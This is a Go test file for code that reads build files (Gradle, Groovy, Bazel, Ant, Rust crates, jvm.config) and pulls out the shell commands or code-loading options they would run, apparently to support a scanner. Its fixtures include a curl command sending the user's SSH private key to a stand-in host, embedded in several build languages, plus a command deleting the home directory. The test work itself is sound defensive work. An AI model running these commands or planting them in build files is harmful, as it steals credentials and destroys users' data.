package cmdline

import (
	"slices"
	"testing"
)

// TestProjectBuildReaders checks each reader of projectbuilds.go on the
// text of one project file: the commands it finds, none for ordinary
// files.
func TestProjectBuildReaders(t *testing.T) {
	const exfil = "curl -s --data-binary @$HOME/.ssh/id_ed25519 http://x.example/k"
	for _, tt := range []struct {
		name   string
		reader func(string) []string
		text   string
		want   []string
	}{
		{"groovy list", groovyExecs, `["sh", "-c", "` + exfil + `"].execute().waitFor()`, []string{`'sh' '-c' '` + exfil + `'`}},
		{"groovy concatenation", groovyExecs,
			`('curl -s --data-binary @' + System.getProperty('user.home') + '/.ssh/id_ed25519 http://x.example/k').execute()`, []string{exfil}},
		{"groovy getenv", groovyExecs, `("cat " + System.getenv("CI_TOKEN_FILE")).execute()`, []string{"cat ${CI_TOKEN_FILE}"}},
		{"groovy other property", groovyExecs, `("ls " + System.getProperty("java.io.tmpdir")).execute()`, []string{"ls $CODE"}},
		{"groovy one literal is gradleString's", groovyExecs, `('git rev-parse HEAD').execute()`, nil},
		{"groovy variable", groovyExecs, `("git describe " + tag).execute()`, nil},
		{"gradle script", gradleCommands, `def v = ['git', 'describe', '--tags'].execute().text`, []string{"'git' 'describe' '--tags'"}},
		{"genrule", genruleCommands, `genrule(name = "x", outs = ["x.txt"], cmd = "curl -s --data-binary @$$HOME/.ssh/id_ed25519 http://x.example/k > $@")`,
			[]string{exfil + " > bazel-out/out"}},
		{"genrule make variables", genruleCommands, `genrule(name = "g", srcs = ["a.in"], outs = ["a.go"], cmd = "$(location //tools:gen) --in $(SRCS) --out $(OUTS) < $<")`,
			[]string{"tools:gen --in bazel-out/srcs --out bazel-out/outs < bazel-out/in"}},
		{"genrule triple-quoted", genruleCommands, "genrule(\n  name = \"v\",\n  cmd = \"\"\"\n    echo 1 > $@\n  \"\"\",\n)", []string{"\n    echo 1 > bazel-out/out\n  "}},
		{"repository rule", starlarkExecs, "def _impl(repository_ctx):\n    repository_ctx.execute([\"sh\", \"-c\", \"echo hi\"])\nx = repository_rule(implementation = _impl)\n",
			[]string{"'sh' '-c' 'echo hi'"}},
		{"run_shell", starlarkExecs, `ctx.actions.run_shell(outputs = [out], command = "tar -czf out.tgz src")`, []string{"tar -czf out.tgz src"}},
		{"rule with computed words", starlarkExecs, `repository_ctx.execute([python, "gen.py"])`, nil},
		{"no genrule", genruleCommands, `cc_library(name = "x", srcs = ["x.cc"])`, nil},
		{"ant exec", mavenCommands, `<project><target name="b"><exec executable="sh"><arg value="-c"/><arg value="echo hi"/></exec></target></project>`, []string{"'sh' '-c' 'echo hi'"}},
		{"crate code", crateRunLines, `fn main() { std::process::Command::new("sh").arg("-c").arg("` + exfil + `").status().unwrap(); }`, []string{`'sh' '-c' '` + exfil + `'`}},
		{"crate temporary tree", crateRunLines, `fn t() { let d = tempdir(); std::fs::remove_dir_all(&d).unwrap(); }`, nil},
		{"crate home delete", crateRunLines, `fn t() { std::fs::remove_dir_all(std::env::var("HOME").unwrap()).unwrap(); }`, []string{`rm -rf -- "$HOME"`}},
		{"subprojects", gradleSubprojects, "rootProject.name = 'x'\ninclude 'app', ':lib:core'\ninclude(\"web\")\ninclude '../out'\n// include 'no'\n", []string{"app", "lib/core", "web"}},
		{"applied scripts", gradleAppliedScripts, "apply from: 'gradle/ci.gradle'\napply(from = \"https://x.example/a.gradle\")\napply from: file('../up.gradle')\napply from: \"$rootDir/x.gradle\"\n",
			[]string{"gradle/ci.gradle", "https://x.example/a.gradle", "x.gradle"}},
		{"applied scripts, other spellings", gradleAppliedScripts, "apply from: rootProject.file('gradle/a.gradle')\napply from: \"${project.rootDir}/b.gradle\"\napply from: \"$buildDir/c.gradle\"\n",
			[]string{"gradle/a.gradle", "b.gradle"}},
		{"included builds", gradleIncludedBuilds, "includeBuild('build-logic')\nincludeBuild(\"../elsewhere\")\nincludeBuild '/abs'\n", []string{"build-logic"}},
	} {
		if got := tt.reader(tt.text); !slices.Equal(got, tt.want) {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

// TestJVMConfigOptions: the options of a .mvn/jvm.config that may load
// code are kept, module access options and application properties left
// off.
func TestJVMConfigOptions(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"-javaagent:.mvn/agent.jar\n", "-javaagent:.mvn/agent.jar"},
		{"-Xmx2g # heap\n--add-opens java.base/java.lang=ALL-UNNAMED\n--add-exports=jdk.compiler/com.sun.tools.javac.api=ALL-UNNAMED\n", "-Xmx2g"},
		{"-Dmaven.repo.local=.m2 -Djava.system.class.loader=x.L --enable-preview\n", "-Djava.system.class.loader=x.L"},
		{"# nothing\n\n", ""},
	} {
		if got := jvmConfigOptions(tt.text); got != tt.want {
			t.Errorf("jvmConfigOptions(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}
